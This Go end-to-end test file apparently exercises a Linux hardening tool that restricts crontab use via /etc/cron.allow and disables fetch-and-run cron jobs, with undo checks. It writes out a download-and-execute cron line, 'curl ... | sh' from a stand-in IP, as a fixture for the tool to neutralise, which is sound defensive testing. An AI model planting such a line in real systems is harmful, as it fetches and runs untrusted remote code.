//go:build linux

package e2e_test

import (
	"strings"
	"testing"

	"github.com/postern-ssh/postern/e2e"
)

// TestFixNamesWhoMayUseCrontab: who has a table keeps his crontab, another loses it,
// tables go on, and undo gives everybody his back.
func TestFixNamesWhoMayUseCrontab(t *testing.T) {
	e2e.NeedHosts(t)
	run := newPostern(t)
	h := e2e.Start(t, e2e.Spec{Release: e2e.Bookworm, Init: e2e.Tiny, Accounts: true})
	run.to(newFixJob(t, h, h.Accounts().Admin))
	may := func(user string) bool {
		_, _, code := h.Exec("echo '0 5 * * * true' | setpriv --reuid $(id -u " + user + ") --regid $(id -g " + user + ") --init-groups crontab -")
		return code == 0
	}
	if !may("plain") || !may("typist") {
		t.Fatal("crontab does not work to begin with")
	}
	h.Exec("crontab -u typist -r")
	if plan := run.want(t, 1, "fix", "--only", "crontab-allow-list"); !strings.Contains(plan, "+plain") || strings.Contains(plan, "typist,") {
		t.Error(plan)
	}
	run.want(t, 0, "fix", "apply", "--yes", "--only", "crontab-allow-list")
	if out, _, _ := h.Exec("stat -c '%U:%G %a' /etc/cron.allow; cat /etc/cron.allow"); out != "root:root 644\nroot\nplain\n" {
		t.Errorf("%q", out)
	}
	if !may("plain") || may("typist") {
		t.Error("the list is not obeyed")
	}
	run.want(t, 0, "fix", "--only", "crontab-allow-list")
	run.want(t, 0, "fix", "undo")
	if !may("typist") {
		t.Error("undo gave crontab not back")
	}
}

// TestFixUsersTable: a job in the table of an ordinary account is put out of force, by
// crontab(1) and in the spool's sticky folder, and undo gives the table back.
func TestFixUsersTable(t *testing.T) {
	e2e.NeedHosts(t)
	run := newPostern(t)
	onMatrix(t, func(s *e2e.Spec) { s.Accounts = true }, func(t *testing.T, h *e2e.Host) {
		run := &asUser{program: run.program, home: t.TempDir()}
		run.to(newFixJob(t, h, h.Accounts().Admin))
		const table = "# mine\n5 4 * * * true\n17 3 * * * curl -s http://198.51.100.7/x.sh | sh\n"
		h.Run("printf '%s' '" + table + "' | crontab -u plain -")
		is := func() string {
			out, errs, _ := h.Exec("crontab -u plain -l; stat -c '%U:%G %a' /var/spool/cron/crontabs/plain; ls -A /var/spool/cron /var/spool/cron/crontabs")
			return out + errs
		}
		before := is()
		run.want(t, 0, "fix", "apply", "--yes", "--only", "fetch-and-run-jobs")
		after := is()
		lines := strings.Split(after, "\n")
		if lines[1] != "5 4 * * * true" || !strings.HasPrefix(lines[2], "# postern ") || !strings.HasSuffix(lines[2], ": 17 3 * * * curl -s http://198.51.100.7/x.sh | sh") {
			t.Error(after)
		}
		if strings.Join(lines[3:], "\n") != strings.TrimPrefix(before, table) {
			t.Errorf("%s\nbefore\n%s", after, before)
		}
		run.want(t, 0, "fix", "undo")
		if after := is(); after != before {
			t.Errorf("undone:\n%sbefore:\n%s", after, before)
		}
	})
}
